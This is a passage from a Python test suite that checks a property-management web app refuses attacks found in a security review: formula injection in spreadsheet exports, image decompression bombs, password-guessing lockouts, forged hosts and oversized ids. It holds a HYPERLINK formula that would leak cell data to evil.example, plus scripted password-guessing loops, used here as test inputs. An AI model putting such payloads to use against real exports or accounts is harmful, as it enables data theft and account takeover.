"""The attacks a real deployment meets, each refused: the eleven findings of the white-box test of the
demo (issue 20), then the classes of attack that held (ID walks per role on every record type, CSRF
variants, open redirects, path traversal), so they keep holding. Markup typed into text fields and
read back in Chromium under the CSP is tests/browser/test_attacks.py.
"""
import datetime
import io
import os
import re
import struct
import threading
import time
import zlib
from urllib.parse import urljoin
from urllib.parse import urlsplit

import openpyxl
import pypdf
import pytest
from PIL import Image
from PIL import ImageFile

from conftest import PASSWORD
from conftest import html
from conftest import text
from kefu import access
from kefu import backup
from kefu import clock
from kefu import create_app
from kefu import estate
from kefu import events
from kefu import patrols
from kefu import shops
from kefu import tickets
from kefu import uploads
from kefu import users
from kefu import web
from kefu import workorders
from kefu.customers import Need
from kefu.summaries import MonthlySummary
from kefu.tickets import Ticket
from test_tickets import intake
from test_tickets import traveller  # noqa: F401 (fixture)
from test_tickets import world  # noqa: F401 (fixture)

CALLER_PHONE = "13800001111"


def sign_in(client, username, password=PASSWORD, address="127.0.0.1"):
    return client.post("/login", data={"username": username, "password": password},
                       environ_base={"REMOTE_ADDR": address})


def password_error(response):
    match = re.search(r'<p class="error" id="password-error"[^>]*>([^<]*)</p>', html(response))
    return match and match.group(1)


# 1. Formula injection in the .xlsx export

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"点此查看详情")', "=1+1", "+1+1", "-1+1", "@SUM(1,1)",
            "\t=1+1", "\r=1+1"]


def test_text_that_looks_like_a_formula_is_exported_as_text(world, as_user):
    for n, formula in enumerate(FORMULAS):
        intake(world, description=formula, customer_name=formula[:20], household=world.home)
    response = as_user(world.supervisor).post("/exports", data={"first": "2026-11-27", "last": "2026-11-27"})
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    cells = [cell for row in book["诉求"].iter_rows(min_row=2) for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    said = {cell.value for cell in cells}
    stored = {t.description for t in Ticket.select()} | {t.customer_name for t in Ticket.select()}
    assert stored <= said  # the words kept as stored, not evaluated and not altered
    assert all(cell.quotePrefix for cell in cells if isinstance(cell.value, str) and cell.value[:1] in "=+-@")
    # And in the file itself: no formula element anywhere.
    import zipfile

    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        assert not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name)
                       for name in archive.namelist() if name.startswith("xl/worksheets/"))


# 2. Images: pixels counted before decoding, a few decoded at a time, unattached uploads swept

def png_header_only(width, height):
    """A tiny PNG that says it is width × height pixels (palette): a few hundred bytes."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", width, height, 8, 3, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"PLTE", b"\x00\x00\x00" * 2)
            + chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(b"IEND", b""))


@pytest.fixture
def no_decoding(monkeypatch):
    def refuse(self, *args, **kwargs):
        raise AssertionError("an image was decoded")

    monkeypatch.setattr(Image.Image, "load", refuse)
    monkeypatch.setattr(ImageFile.ImageFile, "load", refuse)


@pytest.mark.parametrize("width, height", [(6400, 6400), (7745, 7745), (20000, 2500)])
def test_a_small_file_saying_it_holds_a_huge_picture_is_refused_before_it_is_decoded(width, height, no_decoding):
    data = png_header_only(width, height)
    assert len(data) < 1000
    with pytest.raises(uploads.PhotoError, match="像素过大"):
        uploads.process(data)


def test_a_phone_cameras_large_jpeg_is_decoded_small_and_accepted():
    out = io.BytesIO()
    Image.new("RGB", (9000, 7000), (90, 120, 200)).save(out, "JPEG", quality=60)  # 63 MP
    full, thumb, width, height = uploads.process(out.getvalue())
    assert max(width, height) == uploads.LONG_SIDE and Image.open(io.BytesIO(full)).size == (width, height)


def test_photos_are_decoded_a_few_at_a_time(monkeypatch):
    decoding, most, lock = [0], [0], threading.Lock()
    load = ImageFile.ImageFile.load

    def slow_load(self, *args, **kwargs):
        if self.__dict__.get("_im") is not None:  # decoded already
            return load(self, *args, **kwargs)
        with lock:
            decoding[0] += 1
            most[0] = max(most[0], decoding[0])
        try:
            time.sleep(0.05)
            return load(self, *args, **kwargs)
        finally:
            with lock:
                decoding[0] -= 1

    monkeypatch.setattr(ImageFile.ImageFile, "load", slow_load)
    out = io.BytesIO()
    Image.new("RGB", (200, 150), (200, 30, 30)).save(out, "PNG")
    threads = [threading.Thread(target=uploads.process, args=(out.getvalue(),)) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert 1 <= most[0] <= uploads.DECODERS


def small_jpeg():
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 30)).save(out, "JPEG")
    return out.getvalue()


def test_uploads_never_attached_are_swept_after_a_day(app, world, traveller):
    folder = app.config["PHOTOS"]
    abandoned = uploads.store(folder, world.assistant, small_jpeg())
    kept = uploads.store(folder, world.assistant, small_jpeg())
    ticket = intake(world, photos=[kept])
    traveller.shift(datetime.timedelta(hours=23))
    recent = uploads.store(folder, world.assistant, small_jpeg())
    backup.sweep_photos()
    assert uploads.Photo.get_or_none(uploads.Photo.id == abandoned.id) is not None  # not a day yet
    traveller.shift(datetime.timedelta(hours=2))
    backup.sweep_photos()
    assert uploads.Photo.get_or_none(uploads.Photo.id == abandoned.id) is None
    assert not os.path.exists(uploads.file_path(folder, abandoned))
    assert not os.path.exists(uploads.file_path(folder, abandoned, thumb=True))
    assert [p.id for p in uploads.Photo.of(ticket)] == [kept.id] and os.path.exists(uploads.file_path(folder, kept))
    assert uploads.Photo.get_or_none(uploads.Photo.id == recent.id) is not None


# 3. The lockout counted atomically; per-address limits

def guess_at_once(app, username, addresses):
    """Wrong passwords for `username` all at the same moment, one from each of `addresses`."""
    barrier = threading.Barrier(len(addresses))
    statuses = []

    def guess(n, address):
        client = app.test_client()
        barrier.wait()
        statuses.append(sign_in(client, username, f"guess-{n}x", address=address).status_code)

    threads = [threading.Thread(target=guess, args=(n, a)) for n, a in enumerate(addresses)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return statuses


def checked(user):
    """How many passwords were checked for `user` and found wrong."""
    return len([e for e in events.timeline(user) if e.action == "登录失败"])


def usual_phone(app, username, address):
    """A browser the owner signs in on and out of: their usual phone."""
    phone = app.test_client()
    assert sign_in(phone, username, address=address).status_code == 303
    phone.post("/logout")
    return phone


def test_simultaneous_wrong_passwords_check_no_more_than_the_lockout_allows(app, world):
    app.config["RATE_LIMITS"] = {"signin": (1000, 900)}
    assert guess_at_once(app, "zhuli1", ["10.0.0.9"] * 24) == [422] * 24
    assert checked(world.assistant) == users.MAX_FAILED_LOGINS
    # Locked from there: even the right password is refused, with the same words as any failure.
    response = sign_in(app.test_client(), "zhuli1", PASSWORD, address="10.0.0.9")
    assert response.status_code == 422 and password_error(response) == users.SIGN_IN_FAILED
    # The owner elsewhere signs in as usual.
    assert sign_in(app.test_client(), "zhuli1", PASSWORD, address="10.0.1.1").status_code == 303


def test_a_stranger_with_many_tries_cannot_keep_the_owner_off_their_usual_phone(app, world):
    # The office's Wi-Fi: everyone behind one address, the stranger too.
    office, boss = "10.5.5.5", admin()
    phone = usual_phone(app, boss.username, office)
    stranger = app.test_client()
    statuses = [sign_in(stranger, boss.username, f"guess-{n}x", address=office).status_code for n in range(60)]
    assert set(statuses) == {422, 429}
    # Brute force is stopped: five passwords checked, then that address is locked out of the account
    # (and, past the address's limit, out of signing in at all).
    assert checked(boss) == users.MAX_FAILED_LOGINS
    assert sign_in(stranger, boss.username, PASSWORD, address=office).status_code in (422, 429)
    # The administrator's usual phone on the same Wi-Fi signs in at once, and so does a new browser of
    # theirs elsewhere.
    assert sign_in(phone, boss.username, address=office).status_code == 303
    assert sign_in(app.test_client(), boss.username, address="10.6.6.6").status_code == 303


def test_guessing_from_many_addresses_shuts_out_new_browsers_but_not_the_owners_phone(app, world):
    phone = usual_phone(app, "zhuli1", "10.7.7.7")
    addresses = [f"10.8.{n // 200}.{n % 200}" for n in range(users.MAX_ACCOUNT_FAILURES + 6)]
    assert guess_at_once(app, "zhuli1", addresses) == [422] * len(addresses)
    assert checked(world.assistant) == users.MAX_ACCOUNT_FAILURES
    assert sign_in(app.test_client(), "zhuli1", PASSWORD, address="10.9.0.1").status_code == 422
    assert sign_in(phone, "zhuli1", address="10.7.7.7").status_code == 303
    # The owner signing in doesn't lift the lock for the guessers.
    assert sign_in(app.test_client(), "zhuli1", PASSWORD, address="10.9.0.2").status_code == 422


def test_wrong_passwords_on_a_known_browser_lock_that_browser(app, world):
    phone = usual_phone(app, "zhuli1", "10.7.7.7")
    for n in range(users.MAX_FAILED_LOGINS):
        assert sign_in(phone, "zhuli1", f"guess-{n}x", address=f"10.7.7.{n}").status_code == 422
    assert sign_in(phone, "zhuli1", address="10.7.7.7").status_code == 422
    assert sign_in(app.test_client(), "zhuli1", address="10.7.7.7").status_code == 303


def test_a_made_up_or_borrowed_known_device_cookie_counts_for_nothing(app, world):
    phone = usual_phone(app, "zhuli1", "10.7.7.7")
    cookie = phone.get_cookie("kefu_device")
    assert cookie is not None and cookie.http_only and cookie.max_age and cookie.max_age > 300 * 86400
    # Another account's known device is a stranger to this one; a tampered cookie is no cookie.
    for value in (cookie.value, cookie.value[:-2] + "xx"):
        stranger = app.test_client()
        stranger.set_cookie("kefu_device", value)
        for n in range(users.MAX_FAILED_LOGINS):
            sign_in(stranger, "zhuli2", f"guess-{n}x", address="10.4.4.4")
        assert sign_in(stranger, "zhuli2", address="10.4.4.4").status_code == 422
        users.SignInLock.delete().execute()


def test_addresses_of_one_ipv6_network_count_as_one_place(app, world):
    app.config["RATE_LIMITS"] = {"signin": (1000, 900)}
    for n in range(users.MAX_FAILED_LOGINS + 3):
        sign_in(app.test_client(), "zhuli1", f"guess-{n}x", address=f"2001:db8:1:2::{n + 1:x}")
    assert checked(world.assistant) == users.MAX_FAILED_LOGINS
    assert sign_in(app.test_client(), "zhuli1", address="2001:db8:1:2:aaaa::1").status_code == 422
    assert sign_in(app.test_client(), "zhuli1", address="2001:db8:1:3::1").status_code == 303


def test_an_address_that_keeps_failing_is_stopped_whoever_it_tries(app, client, world):
    allowed, _window = app.config.get("RATE_LIMITS", {}).get("signin") or __import__("kefu.limits").limits.LIMITS["signin"]
    for n in range(allowed):
        assert sign_in(client, f"guess{n}", "x1234567", address="10.9.9.9").status_code == 422
    stopped = sign_in(client, "zhuli2", PASSWORD, address="10.9.9.9")
    assert stopped.status_code == 429 and "过多" in password_error(stopped)
    assert not client.get("/me").status_code == 200
    assert sign_in(app.test_client(), "zhuli2", PASSWORD, address="10.9.9.10").status_code == 303


def test_uploads_from_one_address_are_limited(app, world, as_user):
    app.config["RATE_LIMITS"] = {"upload": (3, 600)}
    client = as_user(world.assistant)
    for _ in range(3):
        response = client.post("/photos", data={"photos": (io.BytesIO(small_jpeg()), "a.jpg")},
                               content_type="multipart/form-data")
        assert response.status_code == 200
    response = client.post("/photos", data={"photos": (io.BytesIO(small_jpeg()), "a.jpg")},
                           content_type="multipart/form-data")
    assert response.status_code == 422 and "上传过于频繁" in text(response)
    assert uploads.Photo.select().count() == 3


def test_pdfs_for_one_address_are_limited(app, world, as_user):
    app.config["RATE_LIMITS"] = {"pdf": (2, 600)}
    ticket = intake(world)
    client = as_user(world.assistant)
    assert [client.get(f"/tickets/{ticket.id}.pdf").status_code for _ in range(3)] == [200, 200, 429]
    assert "操作过于频繁" in text(client.get(f"/tickets/{ticket.id}.pdf"))


# 4. One message for every failed sign-in

def test_every_failed_sign_in_reads_the_same_whoever_it_names(app, client, world):
    unknown = sign_in(client, "nobody", "wrong-pass1")
    wrong = sign_in(client, "zhuli1", "wrong-pass1")
    for _ in range(users.MAX_FAILED_LOGINS):
        sign_in(client, "zhuli2", "wrong-pass1")
    locked = sign_in(client, "zhuli2", "wrong-pass1")
    assert {r.status_code for r in (unknown, wrong, locked)} == {422}
    assert password_error(unknown) == password_error(wrong) == password_error(locked) == users.SIGN_IN_FAILED
    assert "再错" not in text(wrong) and "已锁定" not in text(locked)


# 5. Absolute URLs only from PUBLIC_URL or a trusted host

def test_a_forged_host_never_becomes_an_address(app):
    with app.test_request_context("/", base_url="http://evil.example"):
        with pytest.raises(web.NoPublicAddress):
            web.external_url("patrols.scan", token="abc")
    with app.test_request_context("/", base_url="http://127.0.0.1:8000"):
        assert web.external_url("patrols.scan", token="abc") == "http://127.0.0.1:8000/c/abc"


def test_with_public_url_every_absolute_url_uses_it_and_other_hosts_are_refused(tmp_path, world):
    from conftest import test_database

    public = create_app({"TESTING": True, "INSTANCE": str(tmp_path / "p"), "WTF_CSRF_ENABLED": False,
                         "DATABASE": test_database(tmp_path, "public.sqlite3"), "PHOTOS": str(tmp_path / "photos"),
                         "PUBLIC_URL": "https://kefu.example.com", "SCHEDULER": False})
    with public.test_request_context("/", base_url="https://kefu.example.com"):
        assert web.external_url("patrols.scan", token="abc") == "https://kefu.example.com/c/abc"
    client = public.test_client()
    assert client.get("/login", base_url="http://evil.example").status_code == 400
    assert client.get("/login", base_url="https://kefu.example.com").status_code == 200
    assert client.get("/login", base_url="http://127.0.0.1:8000").status_code == 200


def test_the_sticker_sheet_of_a_forged_host_is_refused(app, world, as_user):
    patrols.create_checkpoint(world.supervisor, kind="security", name="东门岗", zone=world.zone,
                              checklist=patrols.Checklist.get(code="security"))
    client = as_user(world.supervisor)
    response = client.get("/patrols/stickers.pdf", base_url="http://evil.example")
    assert response.status_code != 200 and b"evil.example" not in response.data


# 6. Ids beyond 64 bits

HUGE = [2 ** 63, 10 ** 30]


def int_routes(app):
    """(method, rule, arguments) of every route with an integer argument."""
    found = []
    for rule in app.url_map.iter_rules():
        ints = [name for name, converter in rule._converters.items() if isinstance(converter, web.BoundedInt)]
        if ints:
            for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
                found.append((method, rule, ints))
    return found


def fill(rule, values):
    url = rule.rule
    for name, converter in rule._converters.items():
        value = values.get(name, "x" if not isinstance(converter, web.BoundedInt) else 1)
        url = re.sub(rf"<[^>]*:?{name}>", str(value), url)
    return url


def test_every_integer_route_answers_404_beyond_what_an_id_holds(app, people, login, caplog):
    routes = int_routes(app)
    assert len(routes) > 80
    login("admin")
    client = app.test_client()
    client.post("/login", data={"username": "admin", "password": PASSWORD})
    for huge in HUGE:
        for method, rule, ints in routes:
            url = fill(rule, {name: huge for name in ints})
            response = client.open(url, method=method, data={})
            assert response.status_code == 404, (method, url, response.status_code)
    assert "OverflowError" not in caplog.text


@pytest.mark.parametrize("query", ["zone=9223372036854775808", "checkpoint=99999999999999999999999",
                                   "user=-9223372036854775809"])
def test_huge_numbers_in_the_query_are_not_an_error(world, as_user, query):
    client = as_user(world.supervisor)
    for path in ("/patrols/stickers.pdf", "/patrols/record.pdf", "/tickets", "/patrols"):
        assert client.get(f"{path}?{query}").status_code < 500


# 7. Form tokens bound to their form

def test_a_requests_form_token_replayed_on_another_kind_of_form_is_refused(world, as_user):
    client = as_user(world.assistant)
    made = client.post("/tickets/new", data={
        "channel": "现场", "category": "工程维修", "tier": str(world.normal.id), "household": "1-1-101",
        "place": "0", "zone": "0", "customer_name": "王先生", "customer_phone": "13812345678",
        "description": "厨房水管漏水", "token": "replayed-token"})
    assert made.status_code == 303
    replayed = client.post("/needs/new", data={"household": "1-1-101", "what": "每周上门打扫", "kind": "personal",
                                               "topic": "家政保洁", "source": "拜访", "token": "replayed-token"})
    assert replayed.status_code == 400 and "表单无效" in text(replayed)
    assert Need.select().count() == 0
    # The same form sent twice still shows the one request made.
    again = client.post("/tickets/new", data={
        "channel": "现场", "category": "工程维修", "tier": str(world.normal.id), "household": "1-1-101",
        "place": "0", "zone": "0", "customer_name": "王先生", "customer_phone": "13812345678",
        "description": "厨房水管漏水", "token": "replayed-token"})
    assert again.status_code == 303 and Ticket.select().count() == 1


# 8. Name lengths consistent across records

def test_a_shop_name_of_sixty_characters_is_registered_and_edited(world, as_user):
    name = "长" * 60
    shop, created = shops.register(world.assistant, name=name, unit_no="A-101", business_type=shops.TYPES[0],
                                   operator_name="王老板", zone=world.zone)
    assert created and shop.name == name
    checkpoint = patrols.Checkpoint.get_by_id(shop.checkpoint_id)
    assert checkpoint.name == f"A-101 {name}"  # whole, nothing cut
    unit_no = "A-101-东侧二十号铺位-B区一层"[:20]
    shop = shops.update(world.assistant, shop, shop.version, name="新" * 60, unit_no=unit_no,
                        business_type=shops.TYPES[0], operator_name="王老板", zone=world.zone)
    checkpoint = patrols.Checkpoint.get_by_id(shop.checkpoint_id)
    assert checkpoint.name == f"{unit_no} {'新' * 60}"
    # Its edit form takes it whole.
    page = html(as_user(admin()).get(f"/patrols/checkpoints/{checkpoint.id}/edit"))
    field = re.search(r'<input[^>]*name="name"[^>]*>', page).group(0)
    assert f'value="{checkpoint.name}"' in field and f'maxlength="{len(checkpoint.name)}"' not in field
    assert int(re.search(r'maxlength="(\d+)"', field).group(1)) >= len(checkpoint.name)


def test_a_place_made_for_every_building_keeps_its_whole_name(world, as_user):
    building = estate.Building.create(code="99", name="楼" * estate.Building.name.max_length)
    client = as_user(admin())
    typed = "地" * 60
    zone = str(estate.Zone.live().first().id)  # for the buildings in no zone (a place needs one)
    response = client.post("/admin/places/new", data={"name": typed, "kind": estate.PLACE_KINDS[0], "zone": zone,
                                                      "each_building": "y", "building": "0", "note": ""})
    assert response.status_code == 303, text(response)
    assert estate.Place.select().where(estate.Place.name == f"{building.name} {typed}").exists()
    too_long = client.post("/admin/places/new", data={"name": "地" * 100, "kind": estate.PLACE_KINDS[0], "zone": zone,
                                                      "each_building": "y", "building": "0", "note": ""})
    assert too_long.status_code == 422 and "加上楼栋名称" in text(too_long)


# Every form's text field against the column it writes. A form's limit is its column's, so what a form
# takes the database keeps, and a record's edit form takes back what its page shows.
FORM_MODELS = {
    "auth.LoginForm": None, "auth.PasswordForm": None, "tickets.FilterForm": None, "search.SynonymForm": None,
    "customers.AnswerForm": "Need", "customers.NeedForm": "Need", "customers.ProfileForm": "HouseholdProfile",
    "customers.VisitForm": "Visit", "estate.BuildingForm": "Building", "estate.EstateForm": "Estate",
    "estate.HouseholdForm": "Household", "estate.LetterheadForm": "Estate", "estate.PlaceForm": "Place",
    "estate.ResidentForm": "Resident", "estate.UnitForm": "Unit", "estate.ZoneForm": "Zone",
    "meetings.MeetingForm": "Meeting", "patrols.CheckForm": "Check", "patrols.CheckpointForm": "Checkpoint",
    "patrols.CloseForm": "Observation", "patrols.FixForm": "Finding", "patrols.ItemForm": "ChecklistItem",
    "patrols.ObservationForm": "Observation", "patrols.OrderForm": "WorkOrder", "patrols.WatchForm": "Observation",
    "rectification.ServeForm": "RectificationNotice", "renovations.CloseForm": "Violation",
    "renovations.EscalateForm": "Referral", "renovations.NoticeForm": "RectificationNotice",
    "renovations.OutcomeForm": "Referral", "renovations.RecheckForm": "RectificationNotice",
    "renovations.RegisterForm": "Renovation", "renovations.ReplyForm": "Referral", "renovations.StateForm": "Renovation",
    "renovations.ViolationForm": "Violation", "search.VoidForm": "Ticket", "services.CallBackForm": "CallBack",
    "services.CancelForm": "ServiceOrder", "services.DispatchForm": "WorkOrder", "services.ItemForm": "ServiceItem",
    "services.OrderForm": "ServiceOrder", "setup.BuildingsForm": "Building", "setup.FirstAdminForm": "User",
    "shops.CommunicationForm": "Communication", "shops.InspectionForm": "Inspection", "shops.LicenceForm": "Licence",
    "shops.NoticeRecheckForm": "ShopNotice", "shops.ShopForm": "Shop", "shops.ShopNoticeForm": "ShopNotice",
    "shops.UrgeForm": "Urging", "tickets.CaseForm": "Ticket", "tickets.CloseForm": "Ticket",
    "tickets.DispatchForm": "WorkOrder", "tickets.EscalateForm": "Ticket", "tickets.FollowUpForm": "CallBack",
    "tickets.IntakeForm": "Ticket", "tickets.PauseForm": "Ticket", "tickets.ResolveForm": "Ticket",
    "tickets.RespondForm": "Ticket", "tickets.SuperviseForm": "Ticket", "tickets.TierForm": "Tier",
    "tickets.VoidForm": "Ticket", "users.NewUserForm": "User", "users.ResetForm": "User", "users.UserForm": "User",
    "worklog.NoteForm": "WorkNote", "workorders.CancelForm": "WorkOrder", "workorders.InspectForm": "WorkOrder",
    "workorders.ReportForm": "WorkOrder",
    "residents.ReportForm": "Ticket", "residents.RateForm": "Rating", "residents.AnswerForm": None,
    "residents.OutageForm": "Outage", "residents.EndForm": "Outage", "notify.RobotForm": "Robot",
}
# Fields named otherwise than their column.
FIELD_COLUMNS = {"workorders.ReportForm.on_behalf": ("WorkOrder", "reported_by")}
# Limits that differ from the column's, and why that is safe.
OTHER_LIMITS = {
    # Typed with spaces as printed on the licence; the rule stores the 18 characters or refuses.
    "shops.LicenceForm.credit_code": "18 after normalising",
    # The pattern takes 5–20 characters.
    "users.UserForm.phone": "pattern", "users.NewUserForm.phone": "pattern",
}
# Text fields with no length check of their own: compared (password confirmations), or read and refused
# by their rule whole (the set-up code, the buildings' codes and name pattern).
UNCHECKED = {"auth.PasswordForm.current", "auth.PasswordForm.confirm", "setup.FirstAdminForm.confirm",
             "setup.FirstAdminForm.code", "setup.BuildingsForm.codes", "setup.BuildingsForm.name_pattern",
             "estate.HouseholdForm.area",
             # The residents' form's honeypot: a person leaves it empty, whatever is in it is refused.
             "residents.ReportForm.website"}


def form_text_fields():
    """(name "module.Form.field", its unbound field) for every text field of every form in kefu.views."""
    import importlib
    import inspect
    import pkgutil

    from flask_wtf import FlaskForm
    from wtforms import HiddenField
    from wtforms import StringField
    from wtforms.fields.core import UnboundField

    import kefu.views

    for info in pkgutil.iter_modules(kefu.views.__path__):
        module = importlib.import_module(f"kefu.views.{info.name}")
        for form_name, form in inspect.getmembers(module, inspect.isclass):
            if not issubclass(form, FlaskForm) or form.__module__ != module.__name__:
                continue
            for name, field in inspect.getmembers(form, lambda v: isinstance(v, UnboundField)):
                text_kind = issubclass(field.field_class, StringField) and not issubclass(field.field_class, HiddenField)
                if text_kind and field.field_class.__name__ in ("StringField", "TextAreaField", "PasswordField"):
                    yield f"{info.name}.{form_name}.{name}", field


def test_every_forms_text_field_is_limited_to_what_its_column_holds():
    from wtforms.validators import Length

    from kefu import db

    models = {model.__name__: model for model in db.all_models()}
    unknown, wrong = [], []
    for name, field in form_text_fields():
        form = name.rsplit(".", 1)[0]
        if form not in FORM_MODELS:
            unknown.append(form)
            continue
        limits = [v.max for v in field.kwargs.get("validators", []) if isinstance(v, Length)]
        model_name, column_name = FIELD_COLUMNS.get(name, (FORM_MODELS[form], name.rsplit(".", 1)[1]))
        column = models[model_name]._meta.fields.get(column_name) if model_name else None
        size = getattr(column, "max_length", None) if column is not None else None
        if not limits and name not in UNCHECKED and name not in OTHER_LIMITS:
            wrong.append(f"{name}: no length check")
        elif size and name not in OTHER_LIMITS and limits != [size]:
            wrong.append(f"{name}: form {limits}, column {model_name}.{column_name} holds {size}")
    assert unknown == [], "a new form: say which record it writes in FORM_MODELS"
    assert wrong == []


def test_names_copied_between_records_fit_where_they_go():
    from kefu.estate import Building
    from kefu.estate import Household
    from kefu.estate import Place
    from kefu.estate import Resident
    from kefu.patrols import ChecklistItem
    from kefu.patrols import Checkpoint
    from kefu.patrols import Finding
    from kefu.patrols import Observation
    from kefu.services import ServiceItem
    from kefu.services import ServiceOrder
    from kefu.shops import Operator
    from kefu.shops import Shop

    biggest_id = len(str(2 ** 63 - 1))
    size = lambda field: field.max_length  # noqa: E731
    copies = [
        # (what, the longest it can be, the column it goes into)
        ("a shop's checkpoint: 铺位号 店名, dated when the name is taken",
         size(Shop.unit_no) + 1 + size(Shop.name) + len("（2026年12月起）"), Checkpoint.name),
        ("a renovation's checkpoint: 房号 装修（登记id）",
         size(Household.code) + len(" 装修（登记）") + biggest_id, Checkpoint.name),
        ("a public place's checkpoint", size(Place.name), Checkpoint.name),
        ("a place for every building: 楼栋 名称, of a 60-character name",
         size(Building.name) + 1 + 60, Place.name),
        ("a place as a request's location", size(Place.name), Ticket.location),
        ("a household as a request's location", size(Household.code), Ticket.location),
        ("a request's location on its work order", size(Ticket.location), workorders.WorkOrder.location),
        ("a checkpoint as a finding's work order's location", size(Checkpoint.name), workorders.WorkOrder.location),
        ("a checkpoint as where an observation is", size(Checkpoint.name), Observation.where),
        ("a request's work order's title: 类别 · 描述前 40 字", size(Ticket.category) + 3 + 40,
         workorders.WorkOrder.title),
        ("a service's work order's title: 个性化服务 服务名", len("个性化服务 ") + size(ServiceItem.name),
         workorders.WorkOrder.title),
        ("a resident as a request's caller", size(Resident.name), Ticket.customer_name),
        ("a resident on a service order", size(Resident.name), ServiceOrder.customer_name),
        ("a person's name on the timeline", size(users.User.display_name), events.Event.actor_name),
        ("who reported a work order done", size(users.User.display_name), workorders.WorkOrder.reported_by),
        ("a shop's operator into its history", size(Shop.operator_name), Operator.name),
        ("a shop's operator's phone into its history", size(Shop.operator_phone), Operator.phone),
        ("a checklist item into a finding", size(ChecklistItem.text), Finding.item_text),
        ("a name tried at sign-in", size(users.User.username), users.FailedSignIn.last_name),
    ]
    too_long = [(what, longest, f"{column.model.__name__}.{column.name}", column.max_length)
                for what, longest, column in copies if longest > column.max_length]
    assert too_long == []


# 9. Sessions expire on the server

@pytest.fixture
def timed(app):
    app.config["SESSION_TIMEOUTS"] = True
    return app


def test_a_session_unused_for_twelve_hours_ends(timed, client, world, traveller):
    assert sign_in(client, "zhuli1").status_code == 303
    traveller.shift(datetime.timedelta(hours=11, minutes=59))
    assert client.get("/me").status_code == 200
    traveller.shift(datetime.timedelta(hours=11, minutes=59))
    assert client.get("/me").status_code == 200  # used 11 h 59 min ago
    traveller.shift(datetime.timedelta(hours=12))
    assert client.get("/me").status_code == 302
    assert users.SignIn.select().count() == 0


def test_a_session_in_use_ends_seven_days_after_signing_in(timed, client, world, traveller):
    assert sign_in(client, "zhuli1").status_code == 303
    for _ in range(6 * 2 + 1):
        traveller.shift(datetime.timedelta(hours=11))
        assert client.get("/me").status_code == 200
    traveller.shift(datetime.timedelta(days=7) - datetime.timedelta(hours=11 * 13))
    assert client.get("/me").status_code == 302


def admin():
    return users.create_user(None, "guanliyuan", "管理员", "admin", PASSWORD)


def test_the_time_limits_are_set_under_settings(timed, client, world, traveller):
    admin_user = admin()
    assert sign_in(client, admin_user.username).status_code == 303
    assert "登录时限" in text(client.get("/admin/"))
    assert client.post("/admin/sessions", data={"version": "1", "session_idle_hours": "0",
                                                "session_max_days": "7"}).status_code == 422
    saved = client.post("/admin/sessions", data={"version": "1", "session_idle_hours": "1", "session_max_days": "2"})
    assert saved.status_code == 303
    assert [e.action for e in events.timeline(estate.Estate.current())][-1] == "修改登录时限"
    traveller.shift(datetime.timedelta(minutes=59))
    assert client.get("/me").status_code == 200
    traveller.shift(datetime.timedelta(minutes=61))
    assert client.get("/me").status_code == 302


# 10. The audit log doesn't grow from anonymous requests; no GET writes

def test_tries_of_names_that_dont_exist_are_counted_not_logged_one_by_one(app, client, world):
    app.config["RATE_LIMITS"] = {"signin": (1000, 900)}
    before = events.Event.select().count()
    for n in range(50):
        sign_in(client, f"scan{n}", "x1234567", address="10.1.2.3")
    assert events.Event.select().count() == before
    row = users.FailedSignIn.get()
    assert (row.count, row.source, row.last_name) == (50, "10.1.2.3", "scan49")
    assert sign_in(client, admin().username, address="10.1.2.4").status_code == 303
    page = text(client.get("/admin/audit"))
    assert "来自 10.1.2.3 · 50 次" in page and "scan49" in page


def row_counts():
    from kefu.db import all_models
    from kefu.db import for_this_database

    # Bookkeeping, not records: the rate-limit counts (a PDF is counted against its address), and the
    # two fixed rows of kept counts the dashboards fill on first view (kefu/trends.py).
    return {model.__name__: model.select().count() for model in for_this_database(all_models())
            if model.__name__ not in ("RateCount", "TrendCache")}


def test_opening_a_months_summary_writes_nothing(world, as_user):
    client = as_user(world.supervisor)
    before = row_counts()
    for month in ("0001-01", "2026-10", "2026-11"):
        assert client.get(f"/summaries/{world.assistant.id}/{month}").status_code == 200
    assert client.get(f"/summaries/{world.assistant.id}/2026-11.pdf").status_code == 200
    assert row_counts() == before
    # Writing it stores it.
    client = as_user(world.assistant)
    saved = client.post(f"/summaries/{world.assistant.id}/2026-11", data={"version": "1", "summary": "本月工作"})
    assert saved.status_code == 303 and MonthlySummary.select().count() == 1


# 11. The customer's number reaches a unit only while its order is open

def test_a_unit_sees_the_callers_number_only_while_its_order_is_open(world, as_user):
    ticket = intake(world, category="保洁", description="楼道有垃圾", customer_name="王先生",
                    customer_phone=CALLER_PHONE)
    ticket, order = tickets.dispatch(world.assistant, ticket, ticket.version, world.cleaning, "清理楼道",
                                     clock.now() + datetime.timedelta(hours=4))
    cleaner = as_user(world.cleaner)
    assert CALLER_PHONE in html(cleaner.get(f"/workorders/{order.id}"))
    assert CALLER_PHONE in pdf_text(cleaner.get(f"/workorders/{order.id}.pdf"))
    order = workorders.accept(world.cleaner, order, order.version)
    order = workorders.report_done(world.cleaner, order, order.version, "已清理")
    order = workorders.inspect(world.assistant, order, order.version, True)
    cleaner = as_user(world.cleaner)
    page = html(cleaner.get(f"/workorders/{order.id}"))
    assert CALLER_PHONE not in page and "138****1111" in page
    printed = pdf_text(cleaner.get(f"/workorders/{order.id}.pdf"))
    assert CALLER_PHONE not in printed and "138****1111" in printed
    # The assistant, who calls customers, still has it.
    assert CALLER_PHONE in html(as_user(world.assistant).get(f"/tickets/{ticket.id}"))


def pdf_text(response):
    assert response.status_code == 200
    return "".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(response.data)).pages)


# The classes that held: CSRF variants

@pytest.fixture
def csrf_app(app):
    app.config["WTF_CSRF_ENABLED"] = True
    return app


def csrf_token(client, path="/me/password"):
